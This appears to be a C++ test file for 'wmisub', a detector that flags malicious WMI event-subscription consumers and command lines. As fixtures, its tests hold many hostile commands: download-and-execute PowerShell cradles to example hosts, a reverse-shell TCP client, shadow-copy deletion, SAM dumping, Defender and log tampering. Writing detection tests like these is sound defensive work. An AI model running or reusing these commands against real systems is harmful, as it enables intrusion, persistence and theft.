    add(cl("$x = Get-WmiObject -List x; $x.Properties['a'].Value"));
    add(cl("rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";eval('x')"));
    add(cl("rundll32 url.dll,FileProtocolHandler calc.exe"));
    add(cl("mshta http://x.example/a.hta"));
    add(cl("cscript //e:vbscript a.txt"));
    add(wmisub::analyze_script("#@~^AAAA^#~@", "VBScript.Encode"));
    std::string binary;
    for (int i = 0; i < 256; ++i) binary.push_back(static_cast<char>((i * 37 + 11) & 0xFF));
    add(ps("$a = '" + wmisub::base64_encode(binary) + "'; $b=[Convert]::FromBase64String($a); New-Object IO.Compression.GzipStream($m, 0)"));
    std::string shell = "[Byte[]] $buf = ";
    for (int i = 0; i < 70; ++i) shell += (i ? ",0x" : "0x") + std::string("e8");
    add(ps(shell));
    add(ps("I`E`X ('a'+'b'); &([char]73+[char]69+[char]88+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32+[char]32)"));
    add(ps("(New-Object Net.WebClient).DownloadFile('http://x.example/a','C:\\a.exe'); (New-Object Net.WebClient).UploadString('http://x.example/u', $d)"));
    add(ps("Test-NetConnection; $c = New-Object Net.Sockets.TCPClient('1.2.3.4', 80)"));
    add(ps("$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();iex $x"));
    add(cl("waitfor /t 100 go"));
    add(ps("Add-Type 'DllImport'; VirtualAllocEx; [AmsiUtils]; Clear-EventLog; Set-MpPreference -DisableIOAVProtection 1"));
    add(ps("Start-Process calc; Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc -ComputerName s1"));
    add(cl("cmd /c vssadmin delete shadows /all & taskkill /im x.exe & reg add HKCU\\Software\\x /v a /d b"));
    add(cl("cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b & schtasks /create /tn a /tr b & sc create a binpath= b & net user a b /add & mofcomp a.mof & reg save hklm\\sam s"));
    add(cl("cmd /c copy a.exe \"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe\""));
    add(vbs("GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"calc\""));
    add(wmisub::analyze_script("x", "PerlScript"));
    wmisub::smtp_consumer smtp;
    smtp.name = "m";
    smtp.smtp_server = "mail.example";
    smtp.to_line = "a@example.org";
    smtp.message = "%TargetInstance%";
    add(wmisub::analyze_consumer(wmisub::consumer{smtp}));
    wmisub::nt_event_log_consumer nt;
    nt.name = "n";
    nt.unc_server_name = "\\\\logserver";
    add(wmisub::analyze_consumer(wmisub::consumer{nt}));
    wmisub::custom_consumer custom;
    custom.class_name = "VendorConsumer";
    add(wmisub::analyze_consumer(wmisub::consumer{custom}));
    for (std::size_t i = 0; i < wmisub::indicator_kind_count; ++i) {
        const auto k = static_cast<indicator_kind>(i);
        CAPTURE(wmisub::to_string(k));
        CHECK(produced.count(k) == 1);
    }
}

// ---------------------------------------------------------------------------
// Consumers
// ---------------------------------------------------------------------------

TEST_CASE("consumers: CommandLineEventConsumer") {
    wmisub::command_line_consumer c;
    c.name = "x";
    c.command_line_template = "cscript KernCap.vbs";
    c.working_directory = R"(C:\tools\kernrate)";
    auto r = wmisub::analyze_consumer(wmisub::consumer{c});
    CHECK_NOT_STRONG(r);
    CHECK_KIND(r, script_interpreter);
    c.working_directory = R"(C:\Users\Public)";
    r = wmisub::analyze_consumer(wmisub::consumer{c});
    CHECK_KIND(r, runs_from_writable_path);
    CHECK(r.find(indicator_kind::runs_from_writable_path)->field == "WorkingDirectory");
    c.command_line_template.reset();
    c.working_directory.reset();
    c.executable_path = "cmd.exe";
    c.show_window_command = 0;
    r = wmisub::analyze_consumer(wmisub::consumer{c});
    CHECK_KIND(r, hidden_window);
    CHECK(r.find(indicator_kind::hidden_window)->field == "ShowWindowCommand");
    REQUIRE(r.executable);
    CHECK(r.executable->field == "ExecutablePath");
}

TEST_CASE("consumers: ActiveScriptEventConsumer") {
    wmisub::active_script_consumer a;
    a.name = "x";
    a.scripting_engine = "VBScript";
    a.script_file_name = R"(C:\Users\bob\AppData\Local\Temp\u.vbs)";
    auto r = wmisub::analyze_consumer(wmisub::consumer{a});
    CHECK_KIND(r, runs_from_writable_path);
    CHECK(r.find(indicator_kind::runs_from_writable_path)->field == "ScriptFileName");
    a.script_file_name = R"(\\198.51.100.9\s\u.vbs)";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{a}), remote_code_load);
    a.script_file_name = R"(C:\Windows\Temp\u.txt)";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{a}), extension_mismatch);
    a.script_file_name = R"(c:\asec2.vbs)";
    CHECK_NOT_STRONG(wmisub::analyze_consumer(wmisub::consumer{a}));
    a.script_file_name.reset();
    a.script_text = "CreateObject(\"WScript.Shell\").Run \"calc\"";
    r = wmisub::analyze_consumer(wmisub::consumer{a});
    CHECK_KIND(r, script_process_launch);
    CHECK(r.find(indicator_kind::script_process_launch)->field == "ScriptText");
    REQUIRE_FALSE(r.chain.empty());
    CHECK(r.chain.front().tool == "scrcons.exe");
    a.scripting_engine = "Python.AXScript.2";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{a}), unusual_script_engine);
}

TEST_CASE("consumers: LogFileEventConsumer is a file-write primitive") {
    wmisub::log_file_consumer l;
    l.name = "x";
    l.filename = R"(c:\Logfile.log)";
    l.text = "%TargetInstance.Name%";
    auto r = wmisub::analyze_consumer(wmisub::consumer{l});
    CHECK_NOT_STRONG(r);
    CHECK_KIND(r, file_write);
    CHECK_KIND(r, event_data_template);
    CHECK_NO_KIND(r, event_data_in_command);
    l.filename = R"(C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\update.bat)";
    l.text = "powershell -nop -enc " + enc("iwr http://x.example/p | iex");
    r = wmisub::analyze_consumer(wmisub::consumer{l});
    CHECK_KIND(r, autostart_file_write);
    CHECK_KIND(r, executable_file_write);
    CHECK_KIND(r, encoded_command);
    CHECK_KIND(r, download_cradle);
    CHECK(r.find(indicator_kind::encoded_command)->field == "Text");
    l.filename = R"(C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1)";
    l.text = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/p')";
    r = wmisub::analyze_consumer(wmisub::consumer{l});
    CHECK_KIND(r, autostart_file_write);
    CHECK_KIND(r, download_cradle);
}

TEST_CASE("consumers: NTEventLogEventConsumer and SMTPEventConsumer") {
    wmisub::nt_event_log_consumer n;
    n.name = "SCM Event Log Consumer";
    n.source_name = "Service Control Manager";
    n.event_id = 0;
    n.insertion_string_templates = std::vector<std::string>{""};
    auto r = wmisub::analyze_consumer(wmisub::consumer{n});
    CHECK(r.indicators.empty());
    n.unc_server_name = ".";
    CHECK(wmisub::analyze_consumer(wmisub::consumer{n}).indicators.empty());
    n.unc_server_name = "\\\\collector01";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{n}), remote_event_log);

    wmisub::smtp_consumer s;
    s.name = "LowDisk";
    s.smtp_server = "SmartHost";
    s.to_line = "SysAd@MyCompany.com, MyAlias@MyCompany.com";
    s.cc_line = "MyHome@MyISP.com";
    s.subject = "WARNING: Low disk space";
    s.message = "WARNING: Your %TargetInstance.DeviceID% is getting dangerously low.";
    r = wmisub::analyze_consumer(wmisub::consumer{s});
    CHECK_NOT_STRONG(r);
    CHECK_KIND(r, email_send);
    CHECK_NO_KIND(r, event_data_exfiltration);
    const auto* e = r.find(indicator_kind::email_send);
    REQUIRE(e != nullptr);
    CHECK(e->detail.find("server=SmartHost") != std::string::npos);
    CHECK(e->detail.find("CcLine=MyHome@MyISP.com") != std::string::npos);
    s.message = "%TargetInstance.CommandLine%";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{s}), event_data_exfiltration);
    s.message = "x";
    s.to_line = "%TargetInstance.Description%";
    CHECK_KIND(wmisub::analyze_consumer(wmisub::consumer{s}), event_data_exfiltration);
}

TEST_CASE("consumers: custom consumer classes are scanned anyway") {
    wmisub::custom_consumer c;
    c.class_name = "VendorRunConsumer";
    c.name = "x";
    c.derivation = {"__EventConsumer"};
    c.extra.push_back({"Command", wmisub::value::string("powershell -enc " + enc("iwr http://x.example | iex"))});
    c.extra.push_back({"Targets", wmisub::value::strings({"http://203.0.113.80/beacon"})});
    const auto r = wmisub::analyze_consumer(wmisub::consumer{c});
    CHECK_KIND(r, custom_consumer);
    CHECK_KIND(r, encoded_command);
    CHECK(r.find(indicator_kind::encoded_command)->field == "Command");
    CHECK_KIND(r, url);
    bool targets = false;
    for (const auto& i : r.indicators) targets = targets || (i.kind == indicator_kind::url && i.field == "Targets");
    CHECK(targets);
}

// ---------------------------------------------------------------------------
// Bounded work, determinism, evidence
// ---------------------------------------------------------------------------

// A hang detector, not a benchmark: the bound is loose so sanitizer and emulated
// (Wine) builds pass too; bench/bench_payload measures speed.
TEST_CASE("hostile inputs: large, repetitive and deeply nested text finishes quickly") {
    const std::size_t size = 256u << 10;
    for (const std::string unit : {"a", "cmd /c cmd /c ", "x & ", "'a'+", "[char]65+", "\"", "%a", "`I", "^a", "0x41,",
                                    "powershell -enc QQBBAA== ; ", "('a','b')-join'' ", "Chr(65) & ", "\\\\a\\b "}) {
        std::string s;
        while (s.size() < size) s += unit;
        CAPTURE(unit);
        const auto start = std::chrono::steady_clock::now();
        const auto a = cl(s);
        const auto b = ps(s);
        const auto c = vbs(s);
        const auto d = js(s);
        const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
        CHECK(seconds < 60.0);
        for (const auto* r : {&a, &b, &c, &d}) {
            CHECK(r->indicators.size() <= wmisub::payload_options{}.max_indicators);
            for (const auto& i : r->indicators) CHECK(excerpt_body(i.excerpt).size() <= 200);
        }
    }
}

TEST_CASE("IP addresses, not version numbers or times") {
    auto ips = [](std::string_view text) {
        std::vector<std::string> out;
        for (const auto& i : cl(text).indicators) {
            if (i.kind == indicator_kind::ip_address) out.push_back(i.detail);
        }
        return out;
    };
    CHECK(ips("ping 192.0.2.15") == std::vector<std::string>{"192.0.2.15"});
    CHECK(ips("curl http://198.51.100.7:8080/x") == std::vector<std::string>{"198.51.100.7"});
    CHECK(ips("curl http://[2001:db8::7]/x") == std::vector<std::string>{"2001:db8::7"});
    CHECK(ips("ping fe80::1ff:fe23:4567:890a") == std::vector<std::string>{"fe80::1ff:fe23:4567:890a"});
    CHECK(ips("ping -6 2001:0db8:85a3:0000:0000:8a2e:0370:7334") == std::vector<std::string>{"2001:0db8:85a3:0000:0000:8a2e:0370:7334"});
    CHECK(ips("app.exe --version 10.0.19041.1 v1.2.3.4 Version=4.0.0.0 1.2.3.4.5").empty());
    CHECK(ips("app.exe 12:30:45 00:1a:2b:3c:4d:5e 300.1.1.1 01.2.3.4").empty());
    CHECK(ips("powershell -c [Convert]::FromBase64String('x')").empty());
    CHECK_KIND(cl("curl http://3232235777/x"), obfuscation);
}

TEST_CASE("limits: decoded bytes are bounded") {
    std::string big(200000, 'A');
    wmisub::payload_options o;
    o.max_layer_bytes = 1000;
    o.max_decoded_bytes = 1500;
    const auto r = wmisub::analyze_command_line("powershell -enc " + enc("Write-Output '" + big + "'"), {}, o);
    CHECK(r.truncated);
    std::size_t total = 0;
    for (const auto& l : r.layers) {
        CHECK(l.text.size() <= 1000);
        total += l.text.size();
    }
    CHECK(total <= 1500);
}

TEST_CASE("limits: a cmd line whose variables re-expand themselves stays bounded") {
    // Each `set y=!y!!y!%y%%y%` quadruples y when the line is expanded again; unbounded,
    // forty of them never finish. Found by fuzz_payload.
    std::string line = "cmd.exe /V:ON /c \"set y=ab";
    for (int i = 0; i < 40; ++i) line += "&set y=!y!!y!%y%%y%";
    line += "&call %y%\"";
    const auto r = wmisub::analyze_command_line(line, {}, {});
    CHECK(r.truncated);
    CHECK_KIND(r, obfuscation);  // "command built from variables set in the same line"
    for (const auto& s : r.chain) CHECK(s.command.size() <= wmisub::payload_options{}.excerpt_bytes);
}

TEST_CASE("limits: indicators, stages and layers are capped and reported") {
    std::string many;
    for (int i = 0; i < 2000; ++i) many += "http://h" + std::to_string(i) + ".example/ ";
    const auto r = cl("cmd /c echo " + many);
    CHECK(r.count(indicator_kind::url) == wmisub::payload_options{}.max_indicators_per_kind);
    CHECK(r.truncated);
    wmisub::payload_options o;
    o.max_indicators = 5;
    o.max_stages = 2;
    const auto small = wmisub::analyze_command_line("cmd /c a & b & c & d & e & f " + many, {}, o);
    CHECK(small.indicators.size() <= 5);
    CHECK(small.chain.size() <= 2);
    CHECK(small.truncated);
}

TEST_CASE("analysis is deterministic and offsets point at the evidence") {
    const std::string cmd = "cmd /c \"powershell -w 1 -c I`E`X ((New-Object Net.WebClient).DownloadString('http://192.0.2.8/a'))\"";
    const auto a = cl(cmd);
    const auto b = cl(cmd);
    CHECK(a.indicators == b.indicators);
    CHECK(a.chain == b.chain);
    CHECK(a.layers == b.layers);
    for (const auto& i : a.indicators) {
        CAPTURE(wmisub::to_string(i.kind));
        REQUIRE(i.field == "CommandLineTemplate");
        CHECK(i.offset < cmd.size());
        CHECK(cmd.find(excerpt_body(i.excerpt)) != std::string::npos);
    }
    const auto* url = a.find(indicator_kind::url);
    REQUIRE(url != nullptr);
    CHECK(cmd.substr(url->offset, url->detail.size()) == url->detail);
    const auto* cradle = a.find(indicator_kind::download_cradle);
    REQUIRE(cradle != nullptr);
    CHECK(cmd.substr(cradle->offset, 14) == "DownloadString");
}

// ---------------------------------------------------------------------------
// The shared corpus
// ---------------------------------------------------------------------------

#if defined(WMISUB_PAYLOAD_TEST_CORPUS)

namespace {

std::optional<wmisub::consumer> corpus_consumer(const wmisub_test::corpus_entry& e) {
    if (!e.consumer) return std::nullopt;
    wmisub::instance in = *e.consumer;
    if (const wmisub::value* v = in.get("Name"); v == nullptr || v->as_string() == nullptr) in.set("Name", wmisub::value::string(""));
    auto typed = wmisub::from_instance(in);
    if (!typed) return std::nullopt;
    if (auto* c = std::get_if<wmisub::consumer>(&*typed)) return *c;
    return std::nullopt;
}

}  // namespace

TEST_CASE("corpus: attacks show a strong indicator, benign subscriptions none") {
    WMISUB_REQUIRE_SHARED(attacks_file, "corpus/attacks.jsonl");
    WMISUB_REQUIRE_SHARED(benign_file, "corpus/benign.jsonl");
    // Attacks whose consumer is, byte for byte, what benign subscriptions also run: a plain
    // program (notepad, "call", waitfor's companion is separate), or a logging
    // script that writes event data to a file. Their risk comes from the trigger and the
    // structure (rules.hpp), not from the payload.
    const std::set<std::string> payload_benign = {"M001", "M009", "M010", "M011", "M013", "M018"};
    std::set<std::string> weak;
    std::size_t attacks = 0;
    for (const auto& e : wmisub_test::load_corpus(attacks_file)) {
        const std::string confidence = e.raw.value("confidence", "");
        if (confidence != "high" && confidence != "medium") continue;
        const auto c = corpus_consumer(e);
        REQUIRE(c);
        const auto r = wmisub::analyze_consumer(*c);
        CAPTURE(e.id);
        INFO(dump(r));
        CHECK_FALSE(r.truncated);
        ++attacks;
        if (!r.has_strong()) weak.insert(e.id);
    }
    CHECK(attacks >= 30);
    CHECK(weak == payload_benign);
    for (const auto& e : wmisub_test::load_corpus(benign_file)) {
        const auto c = corpus_consumer(e);
        REQUIRE(c);
        const auto r = wmisub::analyze_consumer(*c);
        CAPTURE(e.id);
        INFO(dump(r));
        CHECK_FALSE(r.has_strong());
        for (const auto& i : r.indicators) CHECK(i.strength() != wmisub::indicator_strength::strong);
    }
}

TEST_CASE("corpus: evidence offsets stay inside the property they name") {
    WMISUB_REQUIRE_SHARED(attacks_file, "corpus/attacks.jsonl");
    for (const auto& e : wmisub_test::load_corpus(attacks_file)) {
        const auto c = corpus_consumer(e);
        if (!c) continue;
        const auto r = wmisub::analyze_consumer(*c);
        const auto props = wmisub::properties_of(*c);
        for (const auto& i : r.indicators) {
            CAPTURE(e.id);
            CAPTURE(i.field);
            const std::string base = i.field.substr(0, i.field.find('>'));
            const std::string* text = nullptr;
            if (i.field.find('>') != std::string::npos) {
                for (const auto& l : r.layers) {
                    if (l.field == i.field) text = &l.text;
                }
            } else if (const wmisub::property* p = wmisub::find_property(props, base)) {
                text = p->value.as_string();
            }
            if (text == nullptr) continue;
            CHECK(i.offset <= text->size());
            CHECK(text->find(excerpt_body(i.excerpt)) != std::string::npos);
        }
    }
}

#endif  // WMISUB_PAYLOAD_TEST_CORPUS

// ---------------------------------------------------------------------------
// Fast paths (payload analysis skips work where the general rule cannot apply)
// ---------------------------------------------------------------------------

TEST_CASE("fast paths give what the general rules give") {
    // normalize_path: longer than its stack buffer, and without variables.
    const std::string long_dir(600, 'a');
    CHECK(wmisub::normalize_path("C:\\" + long_dir + "\\X.EXE") == "c:\\" + long_dir + "\\x.exe");
    CHECK(wmisub::normalize_path(R"(D:\Tools\..\Run.exe)") == R"(d:\run.exe)");
    CHECK(wmisub::expand_environment("no variables here") == "no variables here");
    // classify_writable tests the "windows\" prefix once, then the list.
    using wmisub::writable_location;
    auto where = [](std::string_view p) { return wmisub::classify_writable_path(p); };
    CHECK(where(R"(C:\Windows\System32\Tasks\x)") == writable_location::windows_writable);
    CHECK(where(R"(C:\Windows\SysWOW64\com\dmp\x)") == writable_location::windows_writable);
    CHECK_FALSE(where(R"(C:\Windows\System32\Taskschd.msc)"));
    CHECK_FALSE(where(R"(C:\Windowsx\Tasks\x)"));
    // Base64 decoded straight from the text: padding, a lone trailing digit, URL-safe digits.
    for (const char* s : {"powershell -enc dwBoAG8AYQBtAGkA", "powershell -enc dwBoAG8AYQBtAGkAx",
                          "powershell -e dwBoAG8AYQBtAGkA==", "powershell -enc dwBoAG8AYQBtAGkA_-"}) {
        const auto r = cl(s);
        const auto* i = r.find(indicator_kind::encoded_command);
        REQUIRE(i != nullptr);
        CHECK(i->detail == "whoami");
    }
    // A copy into an autostart directory: the destination names no file.
    const auto r = cl(R"(cmd.exe /c copy C:\x\a.exe "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup")");
    CHECK_KIND(r, autostart_file_write);
    // Tools whose handler reads no arguments, and cmd's pieces.
    const auto r2 = cl(R"(cmd.exe /c echo x > out.txt & net stop WinDefend & whoami /all & notepad.exe C:\Users\Public\a.txt)");
    CHECK_KIND(r2, discovery);
    CHECK_KIND(r2, security_tool_tamper);
    CHECK_KIND(r2, file_write);
    CHECK(r2.chain.size() >= 4);
}

TEST_CASE("a stop_signal ends an analysis early, keeping what it found, marked interrupted") {
    std::string script;
    for (std::size_t i = 0; script.size() < (std::size_t{2} << 20); ++i) {
        script += "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a" + std::to_string(i) +
                  "'); $b = [Convert]::FromBase64String('SQBFAFgA'); ";
    }
    std::atomic<bool> cancel{true};
    wmisub::stop_signal raised;
    raised.cancel = &cancel;
    const payload_analysis none = wmisub::analyze_powershell(script, {}, raised);
    CHECK(none.interrupted);
    CHECK(none.truncated);
    CHECK(none.indicators.empty());

    const payload_analysis whole = wmisub::analyze_powershell(script, {}, wmisub::stop_signal{});
    CHECK_FALSE(whole.interrupted);
    CHECK(whole.has(indicator_kind::download_cradle));
    // Deadlines from 100 us doubling, until one passes inside the analysis.
    bool stopped_inside = false;
    for (auto budget = std::chrono::microseconds(100); budget < std::chrono::seconds(120) && !stopped_inside; budget *= 2) {
        wmisub::stop_signal late;
        late.deadline = std::chrono::steady_clock::now() + budget;
        const payload_analysis part = wmisub::analyze_powershell(script, {}, late);
        if (!part.interrupted) break;  // the whole analysis fit in the budget
        CHECK(part.truncated);
        stopped_inside = !part.indicators.empty();
        CHECK(part.indicators.size() <= whole.indicators.size());
    }
    CHECK(stopped_inside);
}

TEST_CASE("code piped into an interpreter is analysed as that interpreter's code") {
    const auto r = cl("cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') | powershell -");
    CHECK_KIND(r, inline_script);
    CHECK_KIND(r, download_cradle);
    const auto nested = cl("cmd /c echo net user x P@ss /add | cmd");
    CHECK_KIND(nested, account_manipulation);
    CHECK_KIND(nested, inline_script);
    // Without a pipe, echo only prints.
    CHECK_FALSE(cl("cmd /c echo IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')").has(indicator_kind::download_cradle));
}

TEST_CASE("event logs cleared through WMI, and offensive framework functions by name") {
    CHECK_KIND(vbs("For Each l in GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_NTEventLogFile\")\nl.ClearEventLog()\nNext"),
               logging_tamper);
    CHECK_KIND(ps("Invoke-WmiMethod -Class Win32_NTEventLogFile -Name ClearEventlog"), logging_tamper);
    CHECK_KIND(ps("Invoke-MetasploitPayload https://203.0.113.4:8443/stage"), download_cradle);
    CHECK_KIND(ps("Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.4 -Port 443"), reverse_shell);
    CHECK_KIND(ps("Invoke-Shellcode -Force"), process_injection);
    CHECK_KIND(vbs("Const B64 = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\""), base64_decode);
}

TEST_CASE("a console given to the interactive desktop is not a shell started for its AutoRun") {
    wmisub::command_line_consumer c;
    c.name = "Console";
    c.executable_path = "cmd.exe";
    c.run_interactively = true;
    CHECK_FALSE(wmisub::analyze_consumer(wmisub::consumer{c}).has(indicator_kind::implicit_profile_execution));
    c.run_interactively = false;
    CHECK(wmisub::analyze_consumer(wmisub::consumer{c}).has(indicator_kind::implicit_profile_execution));
}
